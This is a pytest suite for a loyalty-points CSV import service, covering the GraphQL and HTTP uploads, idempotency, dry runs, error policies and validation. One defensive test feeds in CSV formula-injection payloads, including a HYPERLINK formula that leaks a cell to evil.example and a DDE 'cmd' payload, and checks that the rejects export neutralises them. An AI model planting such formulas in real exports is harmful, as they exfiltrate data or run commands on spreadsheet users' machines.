"""Bulk imports of Talon.One loyalty points: the seed's examples, entry points, exactly once,
dry runs and error policies. (Large files, resume and bad files: test_imports_files.py.)"""

from __future__ import annotations

import asyncio
import csv
import io
import json
from datetime import UTC, datetime
from decimal import Decimal
from typing import Any

import httpx
import pytest
from sqlalchemy import func, select
from typer.testing import CliRunner

from app.cards.models import CardStatus
from app.cards.service import issue_card
from app.http.app import create_app
from app.kernel.settings import Settings
from app.ledger import repository as ledger_repository
from app.ledger.models import EventType
from tests.client import Api, merge
from tests.conftest import org_config, stop_background_work
from tests.documents import SAVE_TEMPLATE
from tests.factories import by_user_id
from tests.import_checks import finished, main_points, points_of, post_csv, registered_customer
from tests.ledger_checks import assert_reconciled, count_events
from tests.snapshots import table_counts

PROFILE_EXAMPLE = (
    b"customerprofileid,amount,startdate,expirydate,subledgerid,reason\n"
    b"URNGV8294NV,100,2009-11-10T23:00:00Z,2009-11-11T23:00:00Z,subledger1,appeasement\n"
)
CARD_EXAMPLE = (
    b"identifier,amount,startdate,expirydate,subledgerid,reason\n"
    b"summer-loyalty-card-0543,100,2009-11-10T23:00:00Z,2009-11-11T23:00:00Z,subledger1,appeasement\n"
)

IMPORT_POINTS = """
mutation Import($input: ImportPointsInput!) {
  importPoints(input: $input) {
    __typename
    ... on ImportSubmitted { existing job { id status } }
    ... on Error { code message field }
  }
}
"""


async def import_events(database) -> list[Any]:
    async with database.read() as connection:
        return list(
            (
                await connection.execute(
                    select(
                        ledger_repository.events.c.customer_id,
                        ledger_repository.events.c.points_on_event,
                        ledger_repository.events.c.import_job_id,
                        ledger_repository.events.c.reason,
                    )
                    .where(ledger_repository.events.c.event_type == EventType.POINTS_IMPORT.value)
                    .order_by(ledger_repository.events.c.id)
                )
            ).all()
        )


async def lots_of(database, user_id: str) -> list[Any]:
    async with database.read() as connection:
        return list(
            (
                await connection.execute(
                    select(
                        ledger_repository.lots.c.points,
                        ledger_repository.lots.c.active_from,
                        ledger_repository.lots.c.expires_at,
                        ledger_repository.lots.c.subledger_id,
                    )
                    .join(
                        ledger_repository.accounts,
                        ledger_repository.accounts.c.id == ledger_repository.lots.c.account_id,
                    )
                    .where(ledger_repository.accounts.c.customer_id == int(user_id))
                    .order_by(ledger_repository.lots.c.id)
                )
            ).all()
        )


# --- The seed's two examples --------------------------------------------------------------


async def test_the_profile_example_registers_the_customer_and_imports_100_points_already_past_expiry(
    client_api, database
):
    response = await post_csv(client_api, PROFILE_EXAMPLE, fileName="profile.csv")

    assert response.status_code == 202, response.text
    assert response.json()["existing"] is False
    job = await finished(client_api, str(response.json()["job"]["id"]))
    assert {
        key: job[key]
        for key in (
            "status",
            "rowsRead",
            "rowsImported",
            "rowsRejected",
            "customersCreated",
            "pointsImported",
            "errorCode",
            "fileName",
        )
    } == {
        "status": "DONE",
        "rowsRead": 1,
        "rowsImported": 1,
        "rowsRejected": 0,
        "customersCreated": 1,
        "pointsImported": "100",
        "errorCode": None,
        "fileName": "profile.csv",
    }
    assert job["bytesRead"] == job["bytesTotal"] == len(PROFILE_EXAMPLE)
    points = await points_of(client_api, "EXTERNAL_ID", "URNGV8294NV")
    # Past their expiry date: not held (tests/test_points_held.py).
    assert (points["loyaltyPoints"], points["pending"], points["spendable"]) == ("0", "0", "0")
    [lot] = await lots_of(database, points["userId"])
    assert (lot.points, lot.active_from, lot.expires_at) == (
        Decimal(100),
        datetime(2009, 11, 10, 23, tzinfo=UTC),
        datetime(2009, 11, 11, 23, tzinfo=UTC),
    )
    assert lot.subledger_id is not None
    [event] = await import_events(database)
    assert (event.customer_id, event.points_on_event, event.import_job_id, event.reason) == (
        int(points["userId"]),
        Decimal(100),
        int(job["id"]),
        "appeasement",
    )
    await assert_reconciled(database)


async def test_the_card_example_credits_the_card_holder_in_the_cards_program(client_api, database, org, clock):
    holder = await registered_customer(client_api)
    config = await org_config(database, org.org_id)
    await database.run_write(
        lambda connection: issue_card(
            connection,
            config,
            program_code="main",
            identifier="summer-loyalty-card-0543",
            customer_id=int(holder["userId"]),
            now=clock.now(),
        )
    )

    response = await post_csv(client_api, CARD_EXAMPLE)
    job = await finished(client_api, str(response.json()["job"]["id"]))

    assert (job["status"], job["rowsImported"], job["customersCreated"]) == ("DONE", 1, 0)
    points = await points_of(client_api, "USER_ID", holder["userId"])
    # Points add to what the customer had (18 earned on the bill), already past their expiry (2009-11-11).
    assert (points["loyaltyPoints"], points["expired"]) == (holder["loyaltyPoints"], "100")
    await assert_reconciled(database)


async def test_a_future_startdate_makes_the_points_pending_until_then(client_api, database):
    body = (
        b"customerprofileid,amount,startdate,expirydate\n"
        b"FUTURE-1,40,2099-01-01T00:00:00+05:30,2100-01-01T00:00:00Z\n"
        b"FUTURE-1,60,immediate,unlimited\n"
        b"FUTURE-1,5,,\n"
    )
    job = await finished(client_api, str((await post_csv(client_api, body)).json()["job"]["id"]))

    assert (job["status"], job["rowsImported"], job["customersCreated"]) == ("DONE", 3, 1)
    points = await points_of(client_api, "EXTERNAL_ID", "FUTURE-1")
    assert (points["loyaltyPoints"], points["pending"], points["spendable"]) == ("65", "40", "65")
    lots = await lots_of(database, points["userId"])
    assert lots[0].active_from == datetime(2098, 12, 31, 18, 30, tzinfo=UTC)  # stored in UTC
    assert [lot.expires_at for lot in lots[1:]] == [None, None]


async def test_unknown_and_inactive_cards_are_rejected_with_their_row(client_api, database, org, clock):
    holder = await registered_customer(client_api)
    config = await org_config(database, org.org_id)
    await database.run_write(
        lambda connection: issue_card(
            connection,
            config,
            program_code="main",
            identifier="OFF-1",
            customer_id=int(holder["userId"]),
            now=clock.now(),
            status=CardStatus.BLOCKED,
        )
    )
    body = b"identifier,amount\nOFF-1,10\nNOPE-9,10\n"

    job = await finished(client_api, str((await post_csv(client_api, body)).json()["job"]["id"]))

    assert (job["status"], job["rowsImported"], job["rowsRejected"]) == ("DONE", 0, 2)
    assert [(r["rowNumber"], r["column"], r["code"]) for r in job["rejects"]["rejects"]] == [
        (2, "identifier", "CARD_INACTIVE"),
        (3, "identifier", "CARD_NOT_FOUND"),
    ]
    assert await count_events(database, EventType.POINTS_IMPORT) == 0


# --- Entry points -------------------------------------------------------------------------


async def test_the_graphql_mutation_takes_the_file_as_a_multipart_upload(client_api, database):
    operations = json.dumps(
        {"query": IMPORT_POINTS, "variables": {"input": {"file": None, "configuration": {"programCode": "main"}}}}
    )
    response = await client_api.client.post(
        "/graphql",
        headers=client_api.credentials.upload_headers,
        data={"operations": operations, "map": '{"0": ["variables.input.file"]}'},
        files={"0": ("points.csv", PROFILE_EXAMPLE, "text/csv")},
    )

    assert response.status_code == 200, response.text
    result = response.json()["data"]["importPoints"]
    assert (result["__typename"], result["existing"], result["job"]["status"]) == ("ImportSubmitted", False, "QUEUED")
    job = await finished(client_api, result["job"]["id"])
    assert (job["status"], job["rowsImported"], job["fileName"]) == ("DONE", 1, "points.csv")
    assert (await points_of(client_api, "EXTERNAL_ID", "URNGV8294NV"))["expired"] == "100"  # past 2009-11-11


async def test_a_graphql_upload_is_held_to_the_request_limit_and_its_file_to_the_import_limit(
    database, org, tmp_path, clock
):
    settings = Settings(
        database_url=database.url,
        import_directory=str(tmp_path / "imports"),
        max_body_size_bytes=8192,
        import_size_limit_bytes=4096,
    )
    app = create_app(settings, database=database, clock=clock)
    operations = json.dumps(
        {"query": IMPORT_POINTS, "variables": {"input": {"file": None, "configuration": {"programCode": "main"}}}}
    )

    def upload(rows: int) -> dict[str, Any]:
        content = b"customerprofileid,amount\n" + b"L-1,1\n" * rows
        return {
            "data": {"operations": operations, "map": '{"0": ["variables.input.file"]}'},
            "files": {"0": ("points.csv", content, "text/csv")},
        }

    async with httpx.AsyncClient(transport=httpx.ASGITransport(app=app), base_url="http://testserver") as client:
        headers = org.upload_headers
        # 6 KB: within the 8 KiB request limit, over the 4 KiB import limit.
        over_file = await client.post("/graphql", headers=headers, **upload(1000))
        # 12 KB: over the request limit, declared or streamed without a length (counted, not buffered).
        over_body = await client.post("/graphql", headers=headers, **upload(2000))
        request = client.build_request("POST", "/graphql", headers=headers, **upload(2000))
        body = request.read()

        async def chunks():
            for start in range(0, len(body), 1000):
                yield body[start : start + 1000]

        streamed = await client.post(
            "/graphql", content=chunks(), headers={**headers, "Content-Type": request.headers["Content-Type"]}
        )
        within = await client.post("/graphql", headers=headers, **upload(100))
        api = Api(client, org, database, clock)
        jobs = (await api.data("{ importJobs { jobs { id } } }"))["importJobs"]["jobs"]
    await stop_background_work(app)

    assert over_file.status_code == 200, over_file.text
    assert over_file.json()["data"]["importPoints"] == {
        "__typename": "InvalidInputError",
        "code": "FILE_TOO_LARGE",
        "message": "the file is larger than the import size limit of 4,096 bytes",
        "field": "file",
    }
    assert "content-length" not in streamed.request.headers
    for refused in (over_body, streamed):
        assert (refused.status_code, refused.json()["errors"][0]["extensions"]) == (413, {"code": "PAYLOAD_TOO_LARGE"})
    assert within.json()["data"]["importPoints"]["__typename"] == "ImportSubmitted"
    assert [job["id"] for job in jobs] == [within.json()["data"]["importPoints"]["job"]["id"]]


async def test_the_same_file_or_import_key_imports_nothing_twice(client_api, database):
    first = await post_csv(client_api, PROFILE_EXAMPLE, importKey="batch-7")
    job = await finished(client_api, str(first.json()["job"]["id"]))

    again = await post_csv(client_api, PROFILE_EXAMPLE)
    by_key = await post_csv(client_api, PROFILE_EXAMPLE, importKey="batch-7")
    key_reused = await post_csv(client_api, PROFILE_EXAMPLE + b"X,1,,,,\n", importKey="batch-7")

    assert (again.status_code, again.json()["existing"], again.json()["job"]["id"]) == (200, True, int(job["id"]))
    assert (by_key.status_code, by_key.json()["job"]["id"]) == (200, int(job["id"]))
    assert (key_reused.status_code, key_reused.json()["error"]["code"]) == (409, "IDEMPOTENCY_KEY_REUSED")
    assert (await points_of(client_api, "EXTERNAL_ID", "URNGV8294NV"))["expired"] == "100"  # past 2009-11-11
    assert await count_events(database, EventType.POINTS_IMPORT) == 1
    await assert_reconciled(database)


async def test_the_http_post_needs_the_api_key_and_a_known_program(client_api, database):
    anonymous = await client_api.client.post("/imports/points", content=PROFILE_EXAMPLE, params={"program": "main"})
    unknown = await post_csv(client_api, PROFILE_EXAMPLE, program="nope")
    bad_flag = await post_csv(client_api, PROFILE_EXAMPLE, dryRun="maybe")

    assert anonymous.status_code == 401
    assert (unknown.status_code, unknown.json()["error"]) == (
        404,
        {"code": "NOT_FOUND", "message": "no program 'nope' in this organisation", "field": "programCode"},
    )
    assert (bad_flag.status_code, bad_flag.json()["error"]["field"]) == (422, "dryRun")
    assert await count_events(database, EventType.POINTS_IMPORT) == 0


async def test_the_rejects_download_is_the_original_rows_plus_the_reasons(client_api, database):
    body = (
        '\ufeffCustomerProfileId,Amount,Reason\r\nA-1,10,"thanks, again"\r\nA-2,ten,"a ""quoted""\nnote"\r\n'
        "A-3,-5,x\r\n"
    ).encode()
    job = await finished(client_api, str((await post_csv(client_api, body)).json()["job"]["id"]))

    response = await client_api.client.get(
        job["rejectsCsvPath"], headers={"Authorization": client_api.credentials.header}
    )

    assert response.status_code == 200
    assert list(csv.reader(io.StringIO(response.text))) == [
        ["CustomerProfileId", "Amount", "Reason", "row_number", "error_column", "error_code", "error_message"],
        ["A-2", "ten", 'a "quoted"\nnote', "3", "amount", "INVALID_AMOUNT", "'ten' is not a number"],
        ["A-3", "-5", "x", "4", "amount", "INVALID_AMOUNT", "must be more than 0"],
    ]
    other = await client_api.client.get(
        "/imports/999/rejects.csv", headers={"Authorization": client_api.credentials.header}
    )
    assert other.status_code == 404


async def test_the_rejects_download_never_hands_a_spreadsheet_a_formula(client_api):
    body = (
        b"customerprofileid,amount,reason\r\n"
        b'"=HYPERLINK(""http://evil.example/?""&A1)",ten,x\r\n'
        b"+cmd|' /C calc'!A0,-5,@SUM(A1:A9)\r\n"
        b'"\tA-3",zero,"\rsecond"\r\n'
    )
    job = await finished(client_api, str((await post_csv(client_api, body)).json()["job"]["id"]))

    response = await client_api.client.get(
        job["rejectsCsvPath"], headers={"Authorization": client_api.credentials.header}
    )

    rows = list(csv.reader(io.StringIO(response.text)))
    assert [row[:3] for row in rows[1:]] == [
        ['\'=HYPERLINK("http://evil.example/?"&A1)', "ten", "x"],
        ["'+cmd|' /C calc'!A0", "-5", "'@SUM(A1:A9)"],  # -5 is a number, not a formula
        ["'\tA-3", "zero", "'\rsecond"],
    ]


async def test_the_cli_imports_a_file_and_resumes_nothing_when_it_is_done(database, org, tmp_path, monkeypatch, clock):
    from app.cli.main import cli

    monkeypatch.setenv("POINTLEDGER_DATABASE_URL", database.url)
    from app.kernel.settings import get_settings

    get_settings.cache_clear()
    path = tmp_path / "points.csv"
    path.write_bytes(PROFILE_EXAMPLE + b"B-2,7,,,,\n")
    try:
        # In a thread: the CLI runs its own event loop, as it does in a terminal.
        arguments = ["import", "points", str(path), "--org", "acme", "--program", "main"]
        result = await asyncio.to_thread(CliRunner().invoke, cli, arguments, obj=clock)
        again = await asyncio.to_thread(CliRunner().invoke, cli, arguments, obj=clock)
    finally:
        get_settings.cache_clear()

    assert result.exit_code == 0, result.output
    assert "DONE: 2 imported, 0 rejected of 2 rows" in result.output
    assert again.exit_code == 0, again.output
    assert "already submitted" in again.output
    assert await count_events(database, EventType.POINTS_IMPORT) == 2
    await assert_reconciled(database)


# --- Dry run, error policies, templates -------------------------------------------------------

MIXED = b"customerprofileid,amount\nD-1,10\nD-2,zero\nD-1,5\nD-3,1.5\n"


async def test_a_dry_run_reports_what_would_happen_and_writes_nothing(client_api, database):
    async with database.read() as connection:
        customers_before = (
            await connection.execute(select(func.count()).select_from(ledger_repository.accounts))
        ).scalar_one()

    job = await finished(client_api, str((await post_csv(client_api, MIXED, dryRun="true")).json()["job"]["id"]))

    assert {
        key: job[key]
        for key in (
            "status",
            "dryRun",
            "rowsRead",
            "rowsImported",
            "rowsRejected",
            "customersCreated",
            "pointsImported",
        )
    } == {
        "status": "DONE",
        "dryRun": True,
        "rowsRead": 4,
        "rowsImported": 2,
        "rowsRejected": 2,
        "customersCreated": 1,
        "pointsImported": "15",
    }
    assert [(r["rowNumber"], r["code"]) for r in job["rejects"]["rejects"]] == [
        (3, "INVALID_AMOUNT"),
        (5, "INVALID_AMOUNT"),
    ]
    async with database.read() as connection:
        assert (
            await connection.execute(select(func.count()).select_from(ledger_repository.accounts))
        ).scalar_one() == customers_before
    assert await count_events(database, EventType.POINTS_IMPORT) == 0
    # A dry run does not hold the file: the real import runs after it.
    real = await finished(client_api, str((await post_csv(client_api, MIXED)).json()["job"]["id"]))
    assert (real["rowsImported"], real["rowsRejected"]) == (2, 2)


async def test_a_dry_run_counts_a_new_customer_once_across_batches(database, org, tmp_path, monkeypatch, clock):
    from app.cli.main import cli
    from app.kernel.settings import get_settings

    monkeypatch.setenv("POINTLEDGER_DATABASE_URL", database.url)
    get_settings.cache_clear()
    path = tmp_path / "points.csv"
    # Batches of 2 rows: N-1 is named in the first, second and third batch; N-2 in the first and last.
    path.write_bytes(b"customerprofileid,amount\nN-1,1\nN-2,1\nN-1,1\nN-3,1\nN-1,1\nN-2,1\n")
    try:
        arguments = [
            "import",
            "points",
            str(path),
            "--org",
            "acme",
            "--program",
            "main",
            "--dry-run",
            "--batch-size",
            "2",
        ]
        result = await asyncio.to_thread(CliRunner().invoke, cli, arguments, obj=clock)
    finally:
        get_settings.cache_clear()

    assert result.exit_code == 0, result.output
    assert "DONE: 6 would import, 0 rejected of 6 rows; 3 customers would be registered" in " ".join(
        result.output.split()
    )
    assert await count_events(database, EventType.POINTS_IMPORT) == 0


async def test_reject_file_imports_nothing_when_a_row_is_bad_and_everything_when_none_is(client_api, database):
    rejected = await finished(
        client_api, str((await post_csv(client_api, MIXED, errorPolicy="REJECT_FILE")).json()["job"]["id"])
    )

    assert (rejected["status"], rejected["errorCode"], rejected["rowsImported"], rejected["rowsRejected"]) == (
        "FAILED",
        "ROWS_REJECTED",
        2,
        2,
    )  # rowsImported: what would have been imported
    assert await count_events(database, EventType.POINTS_IMPORT) == 0

    clean = b"customerprofileid,amount\nD-1,10\nD-1,5\n"
    done = await finished(
        client_api, str((await post_csv(client_api, clean, errorPolicy="REJECT_FILE")).json()["job"]["id"])
    )
    assert (done["status"], done["phase"], done["rowsImported"], done["rowsRejected"]) == ("DONE", "IMPORTING", 2, 0)
    assert (await points_of(client_api, "EXTERNAL_ID", "D-1"))["loyaltyPoints"] == "15"
    # The rejected file can be sent again (its job imported nothing); the imported one cannot.
    retried = await post_csv(client_api, MIXED, errorPolicy="KEEP_VALID")
    assert retried.json()["existing"] is False
    await finished(client_api, str(retried.json()["job"]["id"]))
    assert (await post_csv(client_api, clean, errorPolicy="REJECT_FILE")).json()["existing"] is True
    await assert_reconciled(database)


async def test_unknown_customers_and_subledgers_can_be_refused_instead_of_created(client_api, database):
    body = b"customerprofileid,amount,subledgerid\nNEW-1,10,\n"
    job = await finished(
        client_api, str((await post_csv(client_api, body, registerUnknownCustomers="false")).json()["job"]["id"])
    )
    assert [(r["rowNumber"], r["column"], r["code"]) for r in job["rejects"]["rejects"]] == [
        (2, "customerprofileid", "CUSTOMER_NOT_FOUND")
    ]

    await finished(
        client_api, str((await post_csv(client_api, b"customerprofileid,amount\nNEW-1,10\n")).json()["job"]["id"])
    )
    body = b"customerprofileid,amount,subledgerid\nNEW-1,3,partner\n"
    job = await finished(
        client_api, str((await post_csv(client_api, body, createMissingSubledgers="false")).json()["job"]["id"])
    )
    assert [(r["rowNumber"], r["column"], r["code"]) for r in job["rejects"]["rejects"]] == [
        (2, "subledgerid", "SUBLEDGER_NOT_FOUND")
    ]
    assert (await points_of(client_api, "EXTERNAL_ID", "NEW-1"))["loyaltyPoints"] == "10"


async def test_text_its_column_cannot_hold_rejects_the_row_with_the_kernels_message(client_api, database):
    body = (
        "customerprofileid,amount,subledgerid,reason\n"
        "GOOD-1,10,,\n"
        "BAD\x00-1,10,,\n"
        f"{'L' * 255},10,,\n"
        "GOOD-2,10,partner\x00,\n"
        "GOOD-3,10,,late\x00\n"
    ).encode()

    job = await finished(client_api, str((await post_csv(client_api, body)).json()["job"]["id"]))

    assert [(r["rowNumber"], r["column"], r["code"], r["message"]) for r in job["rejects"]["rejects"]] == [
        (3, "customerprofileid", "INVALID_IDENTIFIER", "must not contain NUL characters"),
        (4, "customerprofileid", "INVALID_IDENTIFIER", "must be at most 254 characters"),
        (5, "subledgerid", "INVALID_SUBLEDGER", "must not contain NUL characters"),
        (6, "reason", "INVALID_REASON", "must not contain NUL characters"),
    ]
    assert (job["status"], job["rowsImported"], job["customersCreated"]) == ("DONE", 1, 1)


async def test_a_template_keeps_its_identity_until_its_configuration_changes(client_api, database):
    first = (await client_api.data(SAVE_TEMPLATE, {"input": {"name": "talon", "points": {"programCode": "main"}}}))[
        "saveImportTemplate"
    ]
    same = (await client_api.data(SAVE_TEMPLATE, {"input": {"name": "talon", "points": {"programCode": "main"}}}))[
        "saveImportTemplate"
    ]
    changed = (await client_api.data(SAVE_TEMPLATE, {"input": {"name": "talon", "points": {"programCode": "cafe"}}}))[
        "saveImportTemplate"
    ]
    unknown = (await client_api.data(SAVE_TEMPLATE, {"input": {"name": "talon", "points": {"programCode": "nope"}}}))[
        "saveImportTemplate"
    ]

    assert (same["identity"], same["version"]) == (first["identity"], 1)
    assert changed["identity"] != first["identity"]
    assert changed["version"] == 2
    assert changed["configuration"]["program_code"] == "cafe"
    assert (unknown["__typename"], unknown["code"], unknown["field"]) == ("NotFoundError", "NOT_FOUND", "programCode")

    response = await client_api.client.post(
        "/imports/points",
        content=PROFILE_EXAMPLE,
        params={"template": "talon"},
        headers={"Authorization": client_api.credentials.header},
    )
    job = await finished(client_api, str(response.json()["job"]["id"]))
    assert job["status"] == "DONE"
    assert (await points_of(client_api, "EXTERNAL_ID", "URNGV8294NV", program="cafe"))["expired"] == "100"


@pytest.mark.parametrize(
    ("params", "field"),
    [({"importKey": "key\x00"}, "input.importKey"), ({"template": "t\x00"}, "input.templateName"),
     ({"fileName": "points\x00.csv"}, "fileName")],
)  # fmt: skip
async def test_a_nul_in_an_imports_names_is_a_typed_refusal_on_both_databases(client_api, database, params, field):
    response = await post_csv(client_api, b"customerprofileid,amount\nA-1,10\n", **params)

    assert response.status_code == 422
    assert response.json() == {
        "error": {"code": "INVALID_INPUT", "message": "must not contain NUL characters", "field": field}
    }
    assert (await table_counts(database))["import_jobs"] == 0


async def test_a_template_name_with_a_nul_is_refused(client_api):
    result = (
        await client_api.data(SAVE_TEMPLATE, {"input": {"name": "weekly\x00", "points": {"programCode": "main"}}})
    )["saveImportTemplate"]

    assert result == {
        "__typename": "InvalidInputError", "code": "INVALID_INPUT", "message": "must not contain NUL characters",
        "field": "input.name",
    }  # fmt: skip


@pytest.mark.parametrize(
    ("mutation", "input_type", "configuration"),
    [("importPoints", "ImportPointsInput", {"programCode": "main"}),
     ("importCustomerPromotion", "ImportCustomerPromotionInput", {"promotionName": "Diwali"}),
     ("importTrackerValues", "ImportTrackerValuesInput", {"trackerCode": "FUEL"})],
)  # fmt: skip
async def test_a_file_sent_as_text_instead_of_an_upload_is_a_typed_refusal(
    client_api, database, mutation, input_type, configuration
):
    document = f"""
    mutation Import($input: {input_type}!) {{
      {mutation}(input: $input) {{ __typename ... on Error {{ code message field }} }}
    }}"""
    variables = {"input": {"file": "customerprofileid,amount\nA-1,10\n", "configuration": configuration}}

    result = (await client_api.data(document, variables))[mutation]

    assert result == {
        "__typename": "InvalidInputError", "code": "INVALID_INPUT",
        "message": "send the file as a multipart upload (the GraphQL multipart request spec)", "field": "input.file",
    }  # fmt: skip
    assert (await table_counts(database))["import_jobs"] == 0


async def test_after_a_merge_the_victims_customerprofileid_credits_the_survivor(client_api, database):
    registering = b"customerprofileid,amount\nM-SURVIVOR,10\nM-VICTIM,20\n"
    await finished(client_api, str((await post_csv(client_api, registering)).json()["job"]["id"]))
    survivor = (await points_of(client_api, "EXTERNAL_ID", "M-SURVIVOR"))["userId"]
    victim = (await points_of(client_api, "EXTERNAL_ID", "M-VICTIM"))["userId"]
    merged = await merge(client_api, by_user_id(survivor), by_user_id(victim))
    assert merged["__typename"] == "CustomersMerged", merged
    counts = await table_counts(database)

    body = b"customerprofileid,amount\nM-VICTIM,5\nM-SURVIVOR,7\nM-VICTIM,9\n"
    job = await finished(client_api, str((await post_csv(client_api, body)).json()["job"]["id"]))

    # The merge moved the victim's identifiers to the survivor: no one is registered again.
    assert (job["status"], job["rowsImported"], job["rowsRejected"], job["customersCreated"]) == ("DONE", 3, 0, 0)
    assert (await points_of(client_api, "EXTERNAL_ID", "M-VICTIM"))["userId"] == survivor
    assert await main_points(client_api, survivor) == "51"  # 10, the victim's 20 by the merge, then 5 + 7 + 9
    assert await main_points(client_api, victim) == "0"
    after = await table_counts(database)
    assert {table: after[table] - counts[table] for table in after if after[table] != counts[table]} == {
        "import_jobs": 1,
        "ledger_events": 3,
        "ledger_entries": 3,
        "point_lots": 3,
        "outbox_events": 1,  # import_job.finished
        "outbox_deliveries": 1,
    }
    await assert_reconciled(database)
